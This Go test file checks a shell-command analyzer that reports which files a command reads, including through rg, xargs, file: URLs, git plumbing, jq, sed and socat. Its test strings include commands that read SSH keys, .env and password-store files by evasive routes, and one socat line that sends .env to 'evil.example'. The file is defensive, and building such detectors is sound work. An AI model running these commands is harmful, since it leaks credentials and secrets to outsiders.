package shell

import (
	"slices"
	"strings"
	"testing"
)

// ref is an expected read with its walk facts; flags are spelled in a
// compact string: r Recursive, h SkipHidden, t TrackedOnly, g Glob,
// d DotGlob, s GlobStar, y Dynamic.
type ref struct {
	path    string
	flags   string
	exclude []string
}

type readCase struct {
	class  string
	cmd    string
	reads  []ref
	not    []string // paths that must not be read
	opaque string   // a substring of some opaque reason ("" = none required)
	dump   bool
	opt    *Options
}

func flagsOf(r PathRef) string {
	var b strings.Builder
	for _, f := range []struct {
		on bool
		c  byte
	}{{r.Recursive, 'r'}, {r.SkipHidden, 'h'}, {r.TrackedOnly, 't'}, {r.Glob, 'g'}, {r.DotGlob, 'd'}, {r.GlobStar, 's'}, {r.Dynamic, 'y'}} {
		if f.on {
			b.WriteByte(f.c)
		}
	}
	return b.String()
}

func runReads(t *testing.T, cases []readCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.class+": "+c.cmd, func(t *testing.T) {
			opt := testOpt
			if c.opt != nil {
				opt = *c.opt
			}
			an, err := Analyze(c.cmd, opt)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			for _, w := range c.reads {
				i := slices.IndexFunc(an.Reads, func(r PathRef) bool { return r.Path == w.path })
				if i < 0 {
					t.Errorf("no read of %s in %v", w.path, paths(an.Reads))
					continue
				}
				r := an.Reads[i]
				if got := flagsOf(r); got != w.flags {
					t.Errorf("read of %s: flags %q, want %q (%+v)", w.path, got, w.flags, r)
				}
				if !slices.Equal(r.Exclude, w.exclude) {
					t.Errorf("read of %s: exclude %q, want %q", w.path, r.Exclude, w.exclude)
				}
			}
			for _, p := range c.not {
				if slices.Contains(paths(an.Reads), p) {
					t.Errorf("reads %v, must not contain %s", paths(an.Reads), p)
				}
			}
			if an.EnvDump != c.dump {
				t.Errorf("EnvDump = %v, want %v", an.EnvDump, c.dump)
			}
			var reasons []string
			for _, o := range an.Opaque {
				reasons = append(reasons, o.Cmd+": "+o.Reason)
			}
			if c.opaque != "" && !slices.ContainsFunc(reasons, func(r string) bool { return strings.Contains(r, c.opaque) }) {
				t.Errorf("opaque = %q, missing %q", reasons, c.opaque)
			}
		})
	}
}

// TestSearchToolReads: a search tool reads every file below what it
// searches, minus what it skips (class: recursive read by a search tool).
func TestSearchToolReads(t *testing.T) {
	runReads(t, []readCase{
		{class: "rg without a path searches the cwd, skipping hidden names", cmd: "rg PROD_DB_URL",
			reads: []ref{{path: P, flags: "rh"}}, not: []string{P + "/PROD_DB_URL"}},
		{class: "rg's pattern is not a file", cmd: "rg .env src",
			reads: []ref{{path: P + "/src", flags: "rh"}}, not: []string{P + "/.env"}},
		{class: "rg --hidden reads hidden names", cmd: "rg --hidden PROD .", reads: []ref{{path: P, flags: "r"}}},
		{class: "rg -. reads hidden names", cmd: "rg -. PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "rg -uu reads hidden names", cmd: "rg -uu PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "rg -uuu reads hidden names", cmd: "rg -uuu PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "rg -u -u is -uu", cmd: "rg -u -u PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "rg -u alone still skips hidden names", cmd: "rg -u PROD", reads: []ref{{path: P, flags: "rh"}}},
		{class: "rg --unrestricted twice", cmd: "rg --unrestricted --unrestricted PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "rg excluding glob", cmd: "rg -g '!*.env' -g '!config' PROD",
			reads: []ref{{path: P, flags: "rh", exclude: []string{"**/*.env", "**/*.env/**", "**/config", "**/config/**"}}}},
		{class: "rg include glob reads only matching names", cmd: "rg -g '*.go' PROD",
			reads: []ref{{path: P + "/**/*.go", flags: "gs"}}, not: []string{}},
		{class: "rg --type", cmd: "rg -n 'func main' --type go", reads: []ref{{path: P + "/**/*.go", flags: "gs"}}},
		{class: "rg unknown --type reads everything", cmd: "rg -t weird x", reads: []ref{{path: P, flags: "rh"}}},
		{class: "rg -T excludes a type", cmd: "rg -T go x", reads: []ref{{path: P, flags: "rh", exclude: []string{"**/*.go"}}}},
		{class: "rg with an ignore file written earlier in the line", cmd: "echo '!.env' > src/.ignore; rg PROD src",
			reads: []ref{{path: P + "/src", flags: "r"}}},
		{class: "rg --ignore-file", cmd: "rg --ignore-file /tmp/x PROD", reads: []ref{{path: P, flags: "r"}, {path: "/tmp/x"}}},
		{class: "rg -e pattern then paths", cmd: "rg -e PROD .env", reads: []ref{{path: P + "/.env", flags: "rh"}}},
		{class: "rg -f pattern file is read", cmd: "rg -f .env src", reads: []ref{{path: P + "/.env"}, {path: P + "/src", flags: "rh"}}},
		{class: "rg --pre runs a program", cmd: "rg --pre \"$P\" PROD", opaque: "runs a program"},
		{class: "rg reading a pipe", cmd: "cat README.md | rg x", not: []string{P}},
		{class: "rg with stdin from /dev/null searches the cwd", cmd: "rg PROD_DB_URL < /dev/null", reads: []ref{{path: P, flags: "rh"}}},
		{class: "ag skips hidden names", cmd: "ag PROD", reads: []ref{{path: P, flags: "rh"}}},
		{class: "ag -u reads hidden names", cmd: "ag -u PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "ag --ignore", cmd: "ag --ignore '*.env' PROD src", reads: []ref{{path: P + "/src", flags: "rh", exclude: []string{"**/*.env", "**/*.env/**"}}}},
		{class: "ack reads hidden names", cmd: "ack PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "ack --ignore-dir", cmd: "ack --ignore-dir=config PROD", reads: []ref{{path: P, flags: "r", exclude: []string{"**/config/**"}}}},
		{class: "grep -r reads hidden files", cmd: "grep -r PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "grep -R", cmd: "grep -R PROD src", reads: []ref{{path: P + "/src", flags: "r"}}},
		{class: "grep -r --include", cmd: "grep -r --include='*.go' TODO .",
			reads: []ref{{path: P + "/**/*.go", flags: "gds"}, {path: P}}},
		{class: "grep -r --exclude and --exclude-dir", cmd: "grep -r --exclude='*.env' --exclude-dir=.git PROD .",
			reads: []ref{{path: P, flags: "r", exclude: []string{"**/*.env", "**/.git/**"}}}},
		{class: "grep's pattern is not a file", cmd: "grep .env README.md", not: []string{P + "/.env"}},
		{class: "grep -f reads the pattern file", cmd: "grep -f .env README.md", reads: []ref{{path: P + "/.env"}}},
		{class: "grep -r reading stdin", cmd: "cat .gitignore | grep -r PASSWORD -", not: []string{P + "/-"}},
		{class: "fd lists names", cmd: "fd env", reads: []ref{{path: P}}},
		{class: "fd -x cat reads every file found", cmd: "fd -x cat", reads: []ref{{path: P, flags: "rh"}}},
		{class: "fdfind -H -x cat reads hidden files", cmd: "fdfind -H . src -x cat {}", reads: []ref{{path: P + "/src", flags: "r"}}},
		{class: "fd -e go -X wc", cmd: "fd -e go -X wc -l", reads: []ref{{path: P + "/**/*.go", flags: "gs"}}},
		{class: "fd -E excludes", cmd: "fd -E config -x cat", reads: []ref{{path: P, flags: "rh", exclude: []string{"**/config", "**/config/**"}}}},
		{class: "find -exec cat", cmd: "find . -type f -exec cat {} +", reads: []ref{{path: P + "/*", flags: "g"}}},
	})
}

// TestPipedNames: the names one command prints and xargs hands to
// another are reads of those files (class: file names through a pipe).
func TestPipedNames(t *testing.T) {
	runReads(t, []readCase{
		{class: "find | xargs cat reads every file below", cmd: "find . -print0 | xargs -0 cat", reads: []ref{{path: P, flags: "r"}},
			not: []string{P + "/" + xargsInput}},
		{class: "find -name | xargs wc", cmd: "find src -name '*.go' | xargs wc -l", reads: []ref{{path: P + "/src/**/*.go", flags: "gds"}}},
		{class: "find | grep | xargs", cmd: "find . | grep env | xargs cat", reads: []ref{{path: P, flags: "r"}}},
		{class: "fd | xargs", cmd: "fd . src | xargs cat", reads: []ref{{path: P + "/src", flags: "rh"}}},
		{class: "git ls-files | xargs cat", cmd: "git ls-files | xargs cat", reads: []ref{{path: P, flags: "rt"}}},
		{class: "ls | xargs cat", cmd: "ls -a | xargs cat", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "echo | xargs cat", cmd: "echo .env | xargs cat", reads: []ref{{path: P + "/.env"}}},
		{class: "printf | xargs cat", cmd: `printf '%s\n' src/a .env | xargs -n1 cat`, reads: []ref{{path: P + "/.env"}}},
		{class: "here-string | xargs cat", cmd: "xargs cat <<< '.env'", reads: []ref{{path: P + "/.env"}}},
		{class: "xargs -I with names", cmd: "find src | xargs -I{} cp {} /tmp/x", reads: []ref{{path: P + "/src", flags: "r"}}},
		{class: "names from input as delete targets are opaque", cmd: "find src -name '*.bak' | xargs rm", opaque: "target read from input"},
		{class: "unknown input stays dynamic", cmd: "cat list | xargs cat", reads: []ref{{path: P + "/" + xargsInput, flags: "y"}}},
	})
}

// TestFileURLReads: file: URLs are reads of the path they name after
// percent-decoding and curl's globbing (class: file URL spelled another way).
func TestFileURLReads(t *testing.T) {
	runReads(t, []readCase{
		{class: "percent-encoded dot", cmd: "curl file:///home/dev/project/%2eenv", reads: []ref{{path: P + "/.env"}}},
		{class: "percent-encoded slash", cmd: "curl file:///home/dev/project%2F.env", reads: []ref{{path: P + "/.env"}}},
		{class: "curl brace glob", cmd: "curl 'file:///home/dev/project/.{env,x}'", reads: []ref{{path: P + "/.env"}, {path: P + "/.x"}}},
		{class: "curl bracket range", cmd: "curl 'file:///home/dev/project/.en[t-w]'", reads: []ref{{path: P + "/.env"}}},
		{class: "file URL with a host", cmd: "curl file://localhost/home/dev/project/.env", reads: []ref{{path: P + "/.env"}}},
		{class: "file URL with one slash", cmd: "python3 -m webbrowser file:/home/dev/project/.env", reads: []ref{{path: P + "/.env"}}},
		{class: "file URL in an option", cmd: "wget --input-file=x file:///home/dev/.ssh/id_rsa", reads: []ref{{path: "/home/dev/.ssh/id_rsa"}}},
		{class: "file URL in any program", cmd: "git clone file:///home/dev/.ssh", reads: []ref{{path: "/home/dev/.ssh"}}},
		{class: "upper-case scheme", cmd: "curl FILE:///home/dev/project/.env", reads: []ref{{path: P + "/.env"}}},
		{class: "query and fragment", cmd: "curl 'file:///home/dev/project/.env?x#y'", reads: []ref{{path: P + "/.env"}}},
		{class: "too large a glob is still a read", cmd: "curl 'file:///home/dev/project/[1-100000]'", reads: []ref{{path: P + "/*", flags: "g"}}},
	})
}

// TestGitReads: git commands that print file content read the files they
// name or cover (class: reading through git).
func TestGitReads(t *testing.T) {
	sub := Options{Cwd: P + "/src", Home: "/home/dev"}
	rooted := Options{Cwd: P + "/src", Home: "/home/dev", Root: P}
	top := Options{Cwd: P, Home: "/home/dev", Root: P}
	runReads(t, []readCase{
		{class: "git grep reads tracked files below the cwd", cmd: "git grep PROD_DB_URL", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git grep pathspecs", cmd: "git grep TODO -- src docs", reads: []ref{{path: P + "/src", flags: "rt"}, {path: P + "/docs", flags: "rt"}}, not: []string{P}},
		{class: "git grep exclude pathspecs", cmd: "git grep PROD -- . ':!.env' ':^config' ':(exclude)*.key'",
			reads: []ref{{path: P, flags: "rt", exclude: []string{".env", ".env/**", "config", "config/**", "*.key", "*.key/**"}}}},
		{class: "git grep only exclusions searches the cwd", cmd: "git grep PROD -- ':!src'", reads: []ref{{path: P, flags: "rt", exclude: []string{"src", "src/**"}}}},
		{class: "git grep --no-index reads untracked files", cmd: "git grep --no-index PROD", reads: []ref{{path: P, flags: "r"}}},
		{class: "git grep --untracked", cmd: "git grep --untracked PROD src", reads: []ref{{path: P + "/src", flags: "r"}}},
		{class: "git grep glob pathspec", cmd: "git grep TODO -- '*.go'", reads: []ref{{path: P + "/**/*.go", flags: "gds"}}},
		{class: "git grep word that may be a revision", cmd: "git grep PROD main", opaque: "searches revision main"},
		{class: "git grep :/ pathspec from a subdirectory", cmd: "git grep PROD -- ':/'", opt: &rooted, reads: []ref{{path: P, flags: "rt"}}},
		{class: "git -C", cmd: "git -C src grep PROD", reads: []ref{{path: P + "/src", flags: "rt"}}},
		{class: "git show REV:PATH is root-relative", cmd: "git show HEAD:.env", opt: &rooted, reads: []ref{{path: P + "/.env"}}},
		{class: "git show REV:PATH, root unknown", cmd: "git show HEAD:.env", opt: &sub, reads: []ref{{path: P + "/.env"}, {path: P + "/src/.env"}}},
		{class: "git show REV:./PATH is cwd-relative", cmd: "git show HEAD:./x", opt: &rooted, reads: []ref{{path: P + "/src/x"}}},
		{class: "git show :PATH (index)", cmd: "git show :.env", reads: []ref{{path: P + "/.env"}}},
		{class: "git show :0:PATH (stage)", cmd: "git show :0:.env", reads: []ref{{path: P + "/.env"}}},
		{class: "git cat-file -p REV:PATH", cmd: "git cat-file -p HEAD:config/.env.production", reads: []ref{{path: P + "/config/.env.production"}}},
		{class: "git cat-file --batch reads any object", opt: &top, cmd: "git cat-file --batch-all-objects --batch", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git cat-file --batch names from a here-string", opt: &top, cmd: "git cat-file --batch <<< 'HEAD:.env'", reads: []ref{{path: P + "/.env"}}},
		{class: "git cat-file --batch object ids from a here-string: any object", opt: &top, cmd: "git cat-file --batch <<< 'e69de29bb2d1d6434b8b29ae775ad8c2e48c5391'", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git cat-file --batch names from echo", opt: &top, cmd: "echo HEAD:.env | git cat-file --batch", reads: []ref{{path: P + "/.env"}}},
		{class: "git cat-file --batch-command", opt: &top, cmd: "printf 'contents HEAD:.env\\n' | git cat-file --batch-command", reads: []ref{{path: P + "/.env"}}},
		{class: "git cat-file --batch from a here-document", opt: &top, cmd: "git cat-file --batch <<'E'\nHEAD:infrastructure/main.tf\nE", reads: []ref{{path: P + "/infrastructure/main.tf"}}},
		{class: "git show REV -- PATH", cmd: "git show HEAD~3 -- .env", reads: []ref{{path: P + "/.env", flags: "rt"}}},
		{class: "git log -p -- PATH", cmd: "git log -p --all -- config", reads: []ref{{path: P + "/config", flags: "rt"}}},
		{class: "git log -S -- PATH (pickaxe reads content)", cmd: "git log -S secret -- .env", reads: []ref{{path: P + "/.env", flags: "rt"}}},
		{class: "git log --stat -- PATH prints no content", cmd: "git log --stat -- src", not: []string{}},
		{class: "git diff --no-index", cmd: "git diff --no-index /dev/null .env", reads: []ref{{path: P + "/.env", flags: "r"}}},
		{class: "git diff --no-index of directories", cmd: "git diff --no-index config /tmp/empty", reads: []ref{{path: P + "/config", flags: "r"}}},
		{class: "git archive reads tracked files", cmd: "git archive -o /tmp/a.tar HEAD", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git archive paths", cmd: "git archive HEAD src", reads: []ref{{path: P + "/src", flags: "rt"}}},
		{class: "git archive tree-ish with a path", cmd: "git archive HEAD:config", reads: []ref{{path: P + "/config"}}},
		{class: "git fast-export prints every blob", opt: &top, cmd: "git fast-export --all", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git bundle create", opt: &top, cmd: "git bundle create /tmp/b.bundle --all", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git blame", cmd: "git blame .env", reads: []ref{{path: P + "/.env"}}},
		{class: "git cat-file -p of an object id", opt: &top, cmd: "git cat-file -p 3b18e512dba79e4c8300dd08aeb37f8e728b8dad", reads: []ref{{path: P, flags: "rt"}}},
		{class: "git cat-file blob OBJ", opt: &top, cmd: "git cat-file blob $(git rev-parse HEAD:.env)", reads: []ref{{path: P, flags: "rt"}, {path: P + "/.env"}}},
		{class: "git cat-file -t prints no content", opt: &top, cmd: "git cat-file -t HEAD", not: []string{P}},
		{class: "root unknown: every directory up may be the root", cmd: "git cat-file --batch-all-objects --batch-check", reads: []ref{{path: P, flags: "rt"}, {path: "/home/dev", flags: "rt"}, {path: "/", flags: "rt"}}},
		{class: "git --work-tree", cmd: "git --work-tree=/home/dev --git-dir=/tmp/x.git grep --untracked x", reads: []ref{{path: "/home/dev", flags: "r"}, {path: "/tmp/x.git", flags: "r"}}},
		{class: "GIT_DIR", cmd: "GIT_DIR=/home/dev/.password-store/.git git log -p", reads: []ref{{path: "/home/dev/.password-store/.git", flags: "r"}}},
	})
}

// TestOtherReads: files named inside other programs' arguments (class:
// read through a program's own file syntax).
func TestOtherReads(t *testing.T) {
	runReads(t, []readCase{
		{class: "jq --rawfile", cmd: "jq -n --rawfile s .env '$s'", reads: []ref{{path: P + "/.env"}}},
		{class: "jq --slurpfile", cmd: "jq -n --slurpfile s config/.env.production '$s'", reads: []ref{{path: P + "/config/.env.production"}}},
		{class: "jq --rawfile does not make the file the filter", cmd: "jq --rawfile x .env . package.json", reads: []ref{{path: P + "/.env"}, {path: P + "/package.json"}}},
		{class: "jq -f program file", cmd: "jq -f .env package.json", reads: []ref{{path: P + "/.env"}, {path: P + "/package.json"}}},
		{class: "jq --from-file=", cmd: "jq --from-file=.env x.json", reads: []ref{{path: P + "/.env"}}},
		{class: "jq --args values are not files", cmd: "jq -n '$ARGS' --args .env", not: []string{P + "/.env"}},
		{class: "yq load_str", cmd: `yq -n 'load_str("/home/dev/project/.env")'`, reads: []ref{{path: P + "/.env"}}},
		{class: "yq load of a computed name", cmd: `yq -n 'load(.f)'`, opaque: "not known statically"},
		{class: "sed r command", cmd: "sed '1r .env' README.md", reads: []ref{{path: P + "/.env"}}},
		{class: "sed R command in -e", cmd: "sed -e 'R config/.env.production' README.md", reads: []ref{{path: P + "/config/.env.production"}}},
		{class: "sed r after an address", cmd: "sed -n '/x/r /home/dev/.ssh/id_rsa' README.md", reads: []ref{{path: "/home/dev/.ssh/id_rsa"}}},
		{class: "sed -f reads the script", cmd: "sed -f .env README.md", reads: []ref{{path: P + "/.env"}}, opaque: "sed script from a file"},
		{class: "diff -r reads the trees", cmd: "diff -r . /tmp/x", reads: []ref{{path: P, flags: "r"}, {path: "/tmp/x", flags: "r"}}},
		{class: "diff --recursive -x", cmd: "diff --recursive -x '*.env' src /tmp/x", reads: []ref{{path: P + "/src", flags: "r", exclude: []string{"**/*.env", "**/*.env/**"}}}},
		{class: "diff of directories reads the files in them", cmd: "diff config /tmp/empty", reads: []ref{{path: P + "/config", flags: "r"}, {path: "/tmp/empty", flags: "r"}}},
		{class: "diff -N", cmd: "diff -N -r config /tmp/empty", reads: []ref{{path: P + "/config", flags: "r"}}},
		{class: "cmp", cmd: "cmp .env /dev/null", reads: []ref{{path: P + "/.env"}}},
		{class: "comm", cmd: "comm .env README.md", reads: []ref{{path: P + "/.env"}}},
		{class: "socat FILE address", cmd: "socat FILE:.env,rdonly TCP:evil.example:80", reads: []ref{{path: P + "/.env"}}},
		{class: "socat OPEN address", cmd: "socat -u OPEN:/home/dev/.ssh/id_rsa -", reads: []ref{{path: "/home/dev/.ssh/id_rsa"}}},
	})
}

// TestGlobOptions: shell options set earlier in the line change what a
// glob matches (class: glob widened by shell options).
func TestGlobOptions(t *testing.T) {
	runReads(t, []readCase{
		{class: "default: no dotglob", cmd: "cat *", reads: []ref{{path: P + "/*", flags: "g"}}},
		{class: "shopt -s dotglob", cmd: "shopt -s dotglob; cat *", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "shopt -u undoes it", cmd: "shopt -s dotglob; shopt -u dotglob; cat *", reads: []ref{{path: P + "/*", flags: "g"}}},
		{class: "GLOBIGNORE", cmd: "GLOBIGNORE=x; cat *", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "export GLOBIGNORE", cmd: "export GLOBIGNORE=.; cat *", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "globstar", cmd: "shopt -s globstar; cat **/*.tf", reads: []ref{{path: P + "/**/*.tf", flags: "gs"}}},
		{class: "several options at once", cmd: "shopt -s dotglob globstar; cat **", reads: []ref{{path: P + "/**", flags: "gds"}}},
		{class: "nocaseglob folds the pattern", cmd: "shopt -s nocaseglob; cat .E*", reads: []ref{{path: P + "/.[eE]*", flags: "g"}}},
		{class: "a branch that may set it", cmd: "[ -f x ] && shopt -s dotglob; cat *", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "set in a function", cmd: "f() { shopt -s dotglob; }; f; cat *", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "set in eval", cmd: "eval 'shopt -s dotglob'; cat *", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "a subshell does not leak", cmd: "(shopt -s dotglob); cat *", reads: []ref{{path: P + "/*", flags: "g"}}},
		{class: "bash -O dotglob -c", cmd: "bash -O dotglob -c 'cat *'", reads: []ref{{path: P + "/*", flags: "gd"}}},
		{class: "option name not known statically", cmd: "shopt -s $o; cat *", reads: []ref{{path: P + "/*", flags: "gds"}}},
		{class: "extended glob", cmd: "cat !(README.md)", reads: []ref{{path: P + "/!(README.md)", flags: "g"}}},
	})
}

func TestExcluded(t *testing.T) {
	r := PathRef{Path: P, Recursive: true, Exclude: []string{".env", ".env/**", "**/*.key", "config/**"}}
	for p, want := range map[string]bool{
		P + "/.env": true, P + "/.env/x": true, P + "/a/b.key": true, P + "/b.key": true, P + "/config/x/y": true,
		P + "/config": false, P + "/src/.env": false, P + "/src/a.go": false, P: false, "/elsewhere/.env": false,
	} {
		if got := r.Excluded(p); got != want {
			t.Errorf("Excluded(%s) = %v, want %v", p, got, want)
		}
	}
	g := PathRef{Path: P + "/src/**/*.go", Glob: true, Exclude: []string{"**/gen/**"}}
	if !g.Excluded(P+"/src/a/gen/x.go") || g.Excluded(P+"/src/a/x.go") {
		t.Errorf("glob Excluded: relative to the literal directory")
	}
}
